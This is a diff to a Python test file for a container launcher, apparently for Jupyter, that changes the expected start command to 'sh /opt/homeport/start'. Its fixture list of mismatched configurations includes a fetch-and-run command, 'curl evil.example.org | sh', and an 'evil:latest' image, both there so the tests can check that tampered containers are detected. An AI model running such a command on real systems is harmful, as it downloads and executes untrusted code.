@@ -693,7 +693,7 @@ def test_the_container_is_what_the_specification_says(pki: Pki) -> None:
     body = created_body(pki, spec)
     host = body["HostConfig"]
     assert body["Image"] == IMAGE
-    assert body["Cmd"] == ["jupyter", "lab", "--no-browser"]
+    assert body["Cmd"] == ["sh", "/opt/homeport/start"]
     assert body["Labels"] == dict(spec.labels)
     assert body["WorkingDir"] == "/home/jovyan"
     assert sorted(body["Env"]) == sorted(f"{name}={value}" for name, value in spec.environment.items())
@@ -814,9 +814,9 @@ DIFFERENT: dict[str, dict[str, Any]] = {
     "image": {"config": {"Image": "evil:latest"}, "Image": f"sha256:{'ef' * 32}"},
     "image left out": {"config": {"Image": None}, "Image": None},
     "command": {"config": {"Cmd": ["sh", "-c", "curl evil.example.org | sh"]}},
-    "more command": {"config": {"Cmd": ["jupyter", "lab", "--no-browser", "--ServerApp.token="]}},
+    "more command": {"config": {"Cmd": ["sh", "/opt/homeport/start", "--ServerApp.token="]}},
     "no command": {"config": {"Cmd": None}},
-    "command in one": {"config": {"Cmd": "jupyter lab --no-browser"}},
+    "command in one": {"config": {"Cmd": "sh /opt/homeport/start"}},
     "entrypoint": {"config": {"Entrypoint": ["sh"]}},
     "no entrypoint": {"config": {"Entrypoint": None}},
     "strange entrypoint": {"config": {"Entrypoint": {"0": "tini"}}},
